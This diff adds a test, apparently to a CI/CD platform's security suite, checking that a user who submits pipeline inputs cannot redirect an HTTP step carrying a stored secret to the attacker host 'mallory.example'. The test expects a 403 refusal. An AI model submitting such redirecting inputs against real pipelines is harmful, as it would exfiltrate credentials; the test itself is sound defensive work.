@@ -287,3 +287,24 @@ test("a viewer may read what is asked for and not submit it, and others find not
   assert.equal(await statusesOf(platform, id, "greet"), "InputWaiting greet:InputWaiting");
   await abort(id);
 });
+
+test("who submits inputs may use the secrets of the execution, as who started it", async () => {
+  const spec = { secretManagerIdentifier: "platformSecretManager", valueType: "Inline", value: "v" };
+  const secret = { type: "SecretText", name: "key", identifier: "key", spec };
+  const made = await platform.send("POST", "/ng/api/v2/secrets", {
+    ...{ contentType: JSON_TYPE, body: JSON.stringify({ secret }) },
+  });
+  assert.equal(made.status, 200, made.text);
+  const headers = [{ key: "authorization", value: '<+secrets.getValue("account.key")>' }];
+  const spec2 = { url: "https://<+stage.variables.host>/", method: "GET", headers };
+  const request = { step: { type: "Http", name: "ask", identifier: "ask", spec: spec2 } };
+  await save("sends", [stageOf("s", [request], { variables: [variable("host", ASKED)] })]);
+  const id = await startRun(platform, "sends");
+  const node = await nodeOf(id, "s");
+  const executor = await platform.addUser("_project_admin", { orgIdentifier: "default", projectIdentifier: "p" });
+  const body = { stage: { identifier: "s", variables: [{ name: "host", value: "mallory.example" }] } };
+  const refused = await submit(node, body, { apiKey: executor });
+  assert.equal(refused.status, 403, refused.text);
+  assert.match(refused.text, /core_secret_access/);
+  assert.equal((await abort(id)).status, 200);
+});
